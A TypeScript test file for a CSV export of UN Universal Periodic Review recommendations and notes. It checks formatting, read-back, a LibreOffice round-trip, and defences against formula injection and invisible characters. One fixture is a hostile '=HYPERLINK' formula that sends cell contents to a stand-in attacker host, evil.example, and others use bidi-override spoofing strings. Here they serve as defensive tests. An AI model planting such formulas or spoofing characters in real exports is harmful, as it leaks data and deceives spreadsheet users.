import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Note } from '@/utils/model';
import { CSV_COLUMNS, buildCsv, neutralizeFormula } from './csv';
import { INVISIBLE, expectGolden, loadExample, withInvisibleFormatting } from './test-support';

const example = loadExample();
const CROSSREFS: Record<string, number> = { [example.recommendations[0]!.id]: 2 };
const csv = buildCsv(example, { crossrefCount: (id) => CROSSREFS[id] ?? 0 });

function readBack(text: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('buildCsv', () => {
  it('matches the golden file', () => {
    expectGolden('backup.csv', csv);
  });

  it('is UTF-8 with a BOM, CRLF between rows, every column named in English', () => {
    expect(csv.startsWith('\uFEFFRow type,State under review,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const outsideQuotes = csv.replace(/"(?:[^"]|"")*"/g, '""');
    expect(outsideQuotes).not.toMatch(/[^\r]\n/);
    expect(Papa.parse<string[]>(csv.slice(1)).data[0]).toEqual([...CSV_COLUMNS]);
  });

  it('reads back with one row per recommendation, then one per page-level note', () => {
    const rows = readBack(csv);
    const recRows = rows.filter((r) => r['Row type'] === 'recommendation');
    expect(recRows.map((r) => r['Recommendation ID']).sort()).toEqual(example.recommendations.map((r) => r.id).sort());
    expect(rows.filter((r) => r['Row type'] === 'page note')).toHaveLength(1);
    const first = recRows.find((r) => r['Recommendation ID'] === example.recommendations[0]!.id)!;
    expect(first).toMatchObject({
      'State under review': 'Kazakhstan',
      'Recommending state': 'Canada',
      Session: '34',
      'Action category': '5',
      'Action category name': 'Specific action',
      'Cross-references': '2',
      Tags: 'freedom of expression; UPR 48',
      'Note status': 'follow-up',
    });
    const french = recRows.find((r) => r.Language === 'fr' && r.Notes !== '')!;
    expect(french.Notes).toContain('À vérifier avant l’EPU 48 : « abolition en droit »');
    expect(french.Themes).toBe('Death penalty; International instruments');
    // Multi-line notes survive quoting.
    expect(recRows.some((r) => r.Notes === 'Supported.\nCheck the mid-term report for the new registration rules (2021).')).toBe(true);
  });

  it('leaves deleted notes out', () => {
    const deleted = example.notes.find((n) => n.deletedAt !== null)!;
    expect(csv).not.toContain(deleted.body);
  });

  it('neutralises every cell a spreadsheet would read as a formula', () => {
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'plain', ''].map(neutralizeFormula)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'plain',
      '',
    ]);
    const hostile: Note = { ...example.notes[0]!, body: '=HYPERLINK("http://evil.example/?"&A1,"click")', tags: ['@admin', '-x'] };
    const rows = readBack(buildCsv({ ...example, notes: [hostile] }));
    const row = rows.find((r) => r['Recommendation ID'] === hostile.recommendationId)!;
    expect(row.Notes).toBe(`'${hostile.body}`);
    expect(row.Tags).toBe("'@admin; -x");
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves the cross-reference column empty when no count is given', () => {
    expect(readBack(buildCsv(example)).every((r) => r['Cross-references'] === '')).toBe(true);
  });
});

// LibreOffice must be installed (Debian: libreoffice-calc; .ci/run installs it): this test fails, not skips, without it.
describe('LibreOffice', () => {
  it('opens the CSV with every cell as written and no formula evaluated', { timeout: 120_000 }, () => {
    let version = '';
    try {
      version = execFileSync('soffice', ['--version'], { encoding: 'utf8' });
    } catch {
      throw new Error('soffice (LibreOffice) is not installed: apt-get install -y --no-install-recommends libreoffice-calc');
    }
    expect(version).toMatch(/LibreOffice/);
    const dir = mkdtempSync(join(tmpdir(), 'upr-csv-'));
    try {
      // A second note that a spreadsheet would compute if it were not neutralised.
      const input = buildCsv({ ...example, notes: example.notes.map((n, i) => (i === 1 ? { ...n, body: '=1+1' } : n)) });
      writeFileSync(join(dir, 'in.csv'), input);
      // Import as UTF-8, comma, double quote, with formulas evaluated (the import dialog's default): what a user gets.
      const importOptions = 'CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true';
      execFileSync(
        'soffice',
        [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', `--infilter=${importOptions}`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', join(dir, 'out'), join(dir, 'in.csv')],
        { stdio: 'pipe', timeout: 110_000 },
      );
      const opened = Papa.parse<string[]>(readFileSync(join(dir, 'out', 'in.csv'), 'utf8'), { skipEmptyLines: true }).data;
      const written = Papa.parse<string[]>(input.slice(1), { skipEmptyLines: true }).data;
      expect(opened).toEqual(written);
      expect(opened.flat()).toContain("'=1+1");
      expect(opened.flat().join()).toContain('À vérifier avant l’EPU 48');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('invisible formatting', () => {
  it('shows every bidi control and invisible character in a cell as a visible code', () => {
    const hostile = withInvisibleFormatting(example);
    const rows = readBack(buildCsv(hostile));
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(INVISIBLE);
    const row = rows.find((r) => r['Recommendation ID'] === hostile.recommendations[0]!.id)!;
    expect(row.Recommendation).toContain('⟨U+202E⟩ytlanep htaed⟨U+202C⟩');
    expect(row.Notes).toContain('Paid ⟨U+2066⟩⟨U+202E⟩0001⟨U+2069⟩ euros');
    expect(row.Tags).toContain('urgent⟨U+200F⟩⟨U+200B⟩');
  });
});
